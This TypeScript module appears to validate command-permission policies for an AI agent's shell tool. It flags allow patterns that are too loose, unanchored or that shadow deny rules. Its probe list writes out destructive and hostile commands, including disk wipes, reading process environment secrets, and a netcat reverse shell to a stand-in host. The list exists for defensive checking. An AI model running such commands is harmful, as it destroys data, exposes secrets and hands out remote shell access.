import { badPolicy } from './bad-policy.ts';
import { subjectOf } from './effects.ts';
import { hiddenDenies } from './hidden-denies.ts';
import { exampleFacts } from './policy-examples.ts';
import type { Policy, Rule } from './rule.ts';
import { abouts, matches } from './rule-matches.ts';

/** Commands that no author means to allow with a pattern. A pattern that allows one of them allows nearly everything. */
const probes = [
	'rm -rf /',
	'sudo rm -rf /home',
	'dd if=/dev/zero of=/dev/sda',
	'mkfs.ext4 /dev/sda1',
	'chmod -R 777 /',
	'cat /proc/1/environ',
	'nc -e /bin/sh example.com 4444',
	'shutdown -h now',
];

/**
 * Refuses a pattern that allows one of these commands. Threat: `.*`, or an empty pattern, allows everything. @throws CountersignError
 * `bad-policy`
 */
export function refuseLooseAllows({ rules, file }: Policy): void {
	const all = probes.map((command) => ({
		command,
		asked: abouts(subjectOf({ id: 'probe', name: 'shell_exec', args: { command } }, exampleFacts), exampleFacts),
	}));
	for (const rule of rules.filter(isPatternAllow)) {
		const probe = all.find(({ asked }) => asked.some((about) => matches(rule, about)));
		if (probe === undefined) continue;
		throw badPolicy(
			`\`${rule.name}\` allows too much: its patterns also match \`${probe.command}\` (${file}:${rule.line})`,
			'Write a pattern that begins with `^`, ends with `$`, and matches only the commands that you want to allow.',
		);
	}
}

/**
 * Returns the first pattern of an allow that may match in the middle of a command. For example, `git status` also allows
 * `curl example.com/git status`.
 */
export function unanchoredAllow(rule: Rule): string | undefined {
	if (rule.decision !== 'allow') return undefined;
	return rule.commandPatterns?.find(({ source }) => !isAnchored(source))?.source;
}

/** Returns warnings for a person who tries a policy. They do not stop a run. */
export function looseWarnings(policy: Policy): readonly string[] {
	const { rules, file } = policy;
	const place = ({ line }: Rule): string => `(${file}:${line})`;
	const open = rules.flatMap((rule) => {
		const pattern = unanchoredAllow(rule);
		if (pattern === undefined) return [];
		return [
			`\`${rule.name}\` allows \`${pattern}\` anywhere in a command: begin the pattern with \`^\` ${place(rule)}.`,
		];
	});
	const hidden = hiddenDenies(policy).map(
		({ deny, allow, example }) =>
			`\`${deny.name}\` never denies \`${example}\`, because \`${allow.name}\` comes before it and allows this: the first match decides ${place(deny)}.`,
	);
	return [...open, ...hidden];
}

function isPatternAllow({ decision, commandPatterns, pathPatterns, effectPatterns }: Rule): boolean {
	return decision === 'allow' && (commandPatterns ?? pathPatterns ?? effectPatterns) !== undefined;
}

/** Returns whether every alternative of a pattern begins at the start of the command. */
function isAnchored(source: string): boolean {
	return alternativesOf(source.replace(/^\(\?[a-z]+\)/, '')).every((one) => {
		if (/^(?:\^|\\A)/.test(one)) return true;
		const inner = leadingGroup(one);
		return inner !== undefined && isAnchored(inner);
	});
}

/** Returns the alternatives of a pattern, which are separated by bars. Bars in a group or a class are ignored. */
function alternativesOf(source: string): readonly string[] {
	const found = [''];
	let depth = 0;
	for (const piece of piecesOf(source)) {
		depth += depthOf(piece);
		if (piece === '|' && depth === 0) found.push('');
		else found[found.length - 1] += piece;
	}
	return found;
}

/** Returns the content of a group at the start of a pattern. Undefined if there is no such group, or if it is optional. */
function leadingGroup(source: string): string | undefined {
	if (!source.startsWith('(')) return undefined;
	let depth = 0;
	let end = 0;
	for (const piece of piecesOf(source)) {
		depth += depthOf(piece);
		end += piece.length;
		if (depth === 0) break;
	}
	const isOptional = /^[?*{]/.test(source.slice(end));
	return isOptional ? undefined : source.slice(1, end - 1).replace(/^\?(?:[a-z]*:|P?<\w+>)/, '');
}

/** Returns the characters, escapes and classes of a pattern. */
function piecesOf(source: string): readonly string[] {
	return source.match(/\\[\s\S]|\[\^?\]?(?:\\[\s\S]|[^\]\\])*\]|[\s\S]/g) ?? [];
}

function depthOf(piece: string): number {
	return piece === '(' ? 1 : piece === ')' ? -1 : 0;
}
